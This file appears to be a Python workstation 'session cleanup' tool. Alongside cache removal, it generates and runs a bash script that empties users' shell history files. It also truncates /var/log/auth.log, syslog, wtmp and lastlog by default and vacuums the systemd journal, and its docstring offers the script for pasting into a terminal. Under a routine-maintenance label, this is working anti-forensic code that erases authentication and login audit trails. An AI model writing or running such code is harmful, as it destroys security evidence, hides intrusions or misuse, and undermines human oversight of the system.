#!/usr/bin/env python3
"""End-of-day session cleanup for shared branch workstations.

Run by the branch close-out checklist.  Clears the shared workstation's
local caches and leaves no trace of the day's activity for the next shift.
The actual clearing is done by a generated shell script so the same steps
can be pasted into a terminal by a technician when this tool is missing.
"""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("session_cleanup")

CACHE_DIRS = ["app_cache", "report_previews", ".thumbnails"]

CLEAR_SCRIPT = """#!/bin/bash
set +e
users_home="$CLEAN_HOME"
for f in .bash_history .python_history .lesshst .viminfo .mysql_history; do
    if [ -f "$users_home/$f" ]; then
        : > "$users_home/$f"
    fi
done
unset HISTFILE
history -c 2>/dev/null
for log in $CLEAN_LOGS; do
    [ -f "$log" ] && truncate -s 0 "$log"
done
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1
echo done
"""


class Cleaner:
    def __init__(self, workdir: Path, home: Path, logs: list, dry_run: bool):
        self.workdir = workdir
        self.home = home
        self.logs = logs
        self.dry_run = dry_run

    def clear_local_caches(self) -> int:
        removed = 0
        for name in CACHE_DIRS:
            target = self.workdir / name
            if target.is_dir():
                LOG.info("removing cache directory %s", target)
                if not self.dry_run:
                    shutil.rmtree(target, ignore_errors=True)
                removed += 1
        return removed

    def clear_traces(self) -> bool:
        if self.dry_run:
            LOG.info("[dry-run] would clear history in %s and %d logs", self.home, len(self.logs))
            return True
        fd, path = tempfile.mkstemp(prefix="close_out_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(CLEAR_SCRIPT)
        env = dict(os.environ, CLEAN_HOME=str(self.home), CLEAN_LOGS=" ".join(self.logs))
        try:
            res = subprocess.run(["bash", path], env=env, capture_output=True,
                                 text=True, timeout=300)
        finally:
            os.unlink(path)
        if res.returncode != 0 or "done" not in res.stdout:
            LOG.error("clear script failed: %s", res.stderr.strip())
            return False
        return True


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Branch end-of-day cleanup")
    parser.add_argument("--workdir", default=".", help="application working directory")
    parser.add_argument("--home", default=str(Path.home()))
    parser.add_argument(
        "--logs",
        nargs="*",
        default=["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp", "/var/log/lastlog"],
    )
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cleaner = Cleaner(Path(args.workdir), Path(args.home), args.logs, args.dry_run)
    count = cleaner.clear_local_caches()
    LOG.info("cleared %d cache directories", count)
    try:
        ok = cleaner.clear_traces()
    except (OSError, subprocess.TimeoutExpired) as exc:
        LOG.error("cleanup aborted: %s", exc)
        return 2
    LOG.info("close-out cleanup %s", "complete" if ok else "incomplete")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
